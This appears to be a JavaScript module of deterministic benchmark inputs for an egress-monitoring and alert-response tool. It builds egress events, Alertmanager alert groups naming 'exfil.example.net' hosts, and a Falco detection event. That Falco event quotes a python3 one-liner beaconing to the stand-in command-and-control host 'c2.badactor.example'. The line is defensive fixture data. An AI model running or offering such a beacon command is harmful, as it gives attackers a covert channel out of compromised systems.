// Deterministic inputs for the benchmarks, shaped like the test fixtures (test/fixtures/*) and the
// shipped playbooks. No randomness: the same run gets the same inputs.

export const BASE_TIME = Date.parse('2026-11-25T14:03:12.123Z');

/** One egress event like test/fixtures/egress-event/typical.json; `over` replaces fields. */
export function egressEvent(over = {}) {
  return {
    ts: '2026-11-25T14:03:12.123Z',
    event: 'egress.connect',
    src_service: 'payments-api',
    src_namespace: 'prod',
    src_identity: 'spiffe://cluster.local/ns/prod/sa/payments-api',
    dst_type: 'fqdn',
    dst_name: 'exfil.example.net',
    dst_port: 443,
    protocol: 'HTTPS',
    decision: 'allow',
    policy_id: 'egress-default-allow',
    trace_id: '4bf92f3577b34da6a3ce929d0e0e4736',
    request_id: 'req-01JDX6M3Q9T2V8W5Y7Z0A1B2C3',
    bytes_sent: 48213,
    tls_sni: 'exfil.example.net',
    sampled: true,
    node: 'ip-10-0-12-34.eu-west-1.compute.internal',
    labels: { team: 'payments' },
    tags: ['pci', 'tier-1'],
    note: null,
    ...over,
  };
}

/** `count` egress events as NDJSON, like test/fixtures/egress-event/stream.ndjson, 10 destinations. */
export function ndjsonBatch(count) {
  const lines = [];
  for (let i = 0; i < count; i++) {
    const at = new Date(BASE_TIME + i * 250).toISOString();
    lines.push(
      JSON.stringify({
        ts: at,
        event: 'egress.connect',
        src_service: 'payments-api',
        src_namespace: 'prod',
        dst_type: 'fqdn',
        dst_name: `host-${i % 10}.exfil.example.net`,
        dst_port: 443,
        protocol: 'https',
        request_id: `r-${i}`,
      }),
    );
  }
  return `${lines.join('\n')}\n`;
}

/** An Alertmanager webhook (version 4) grouping `count` alerts, like test/fixtures/alertmanager/typical-group.json. */
export function alertmanagerGroup(count) {
  const alerts = [];
  for (let i = 0; i < count; i++) {
    alerts.push({
      status: i % 10 === 9 ? 'resolved' : 'firing',
      labels: {
        alertname: 'EgressOutsideContract',
        cluster: 'prod-eu-west-1',
        decision: 'allow',
        dst_name: `svc-${i}.exfil.example.net`,
        dst_port: '443',
        dst_type: 'fqdn',
        policy_id: 'egress-default-allow',
        prometheus: 'monitoring/k8s',
        protocol: 'TCP',
        severity: 'critical',
        src_identity: 'spiffe://cluster.local/ns/prod/sa/payments-api',
        src_namespace: 'prod',
        src_service: 'payments-api',
      },
      annotations: {
        runbook_url: 'https://runbooks.example.com/egress/outside-contract',
        summary: `payments-api opened ${i + 1} connections to svc-${i}.exfil.example.net:443 in 5m`,
      },
      startsAt: new Date(BASE_TIME - 60_000 + i).toISOString(),
      endsAt: i % 10 === 9 ? new Date(BASE_TIME).toISOString() : '0001-01-01T00:00:00Z',
      generatorURL:
        'https://prometheus.example.com/graph?g0.expr=sum+by+%28src_service%29+%28increase%28egress_connections_total%5B5m%5D%29%29&g0.tab=1',
      fingerprint: `3f5a0b6c2d1e${(0x9f00 + i).toString(16)}`,
    });
  }
  return {
    version: '4',
    groupKey: '{}:{alertname="EgressOutsideContract"}',
    truncatedAlerts: 0,
    receiver: 'egress-responder',
    status: 'firing',
    alerts,
    groupLabels: { alertname: 'EgressOutsideContract' },
    commonLabels: { alertname: 'EgressOutsideContract', cluster: 'prod-eu-west-1', severity: 'critical' },
    commonAnnotations: {},
    externalURL: 'https://alertmanager.example.com',
  };
}

/** One Falcosidekick event like test/fixtures/falcosidekick/c2-servers.json. */
export function falcoEvent() {
  return {
    uuid: '9f4a2b1e-6c3d-4e8f-a1b2-7c9d0e1f2a3b',
    output:
      "14:03:12.123456789: Warning Outbound connection to C2 server | c2_domain=c2.badactor.example c2_addr=203.0.113.77 connection=10.42.3.17:51544->203.0.113.77:443 lport=51544 rport=443 fd_type=ipv4 fd_proto=tcp evt_type=connect user=app user_uid=1000 user_loginuid=-1 process=python3 proc_exepath=/usr/local/bin/python3.12 parent=sh command=python3 -c import urllib.request;urllib.request.urlopen('https://c2.badactor.example/beacon') terminal=0 container_id=4f2a9c1d7e3b container_name=payments-api container_image_repository=registry.example.com/payments/api container_image_tag=1.42.0 k8s_pod_name=payments-api-7d9f8b6c5d-x2x7q k8s_ns_name=prod",
    priority: 'Warning',
    rule: 'Outbound Connection to C2 Servers',
    time: '2026-11-25T14:03:12.123456789Z',
    output_fields: {
      'container.id': '4f2a9c1d7e3b',
      'container.image.repository': 'registry.example.com/payments/api',
      'container.image.tag': '1.42.0',
      'container.name': 'payments-api',
      'evt.time': 1795615392123456800, // the fixture's 1795615392123456789 as a double
      'evt.type': 'connect',
      'fd.l4proto': 'tcp',
      'fd.lport': 51544,
      'fd.name': '10.42.3.17:51544->203.0.113.77:443',
      'fd.rport': 443,
      'fd.sip': '203.0.113.77',
      'fd.sip.name': 'c2.badactor.example',
      'fd.type': 'ipv4',
      'k8s.ns.name': 'prod',
      'k8s.pod.name': 'payments-api-7d9f8b6c5d-x2x7q',
      'proc.cmdline':
        "python3 -c import urllib.request;urllib.request.urlopen('https://c2.badactor.example/beacon')",
      'proc.exepath': '/usr/local/bin/python3.12',
      'proc.name': 'python3',
      'proc.pname': 'sh',
      'proc.tty': 0,
      'user.loginuid': -1,
      'user.name': 'app',
      'user.uid': 1000,
    },
    source: 'syscall',
    tags: ['maturity_incubating', 'host', 'container', 'network', 'mitre_command_and_control', 'TA0011'],
    hostname: 'ip-10-0-12-34.eu-west-1.compute.internal',
  };
}
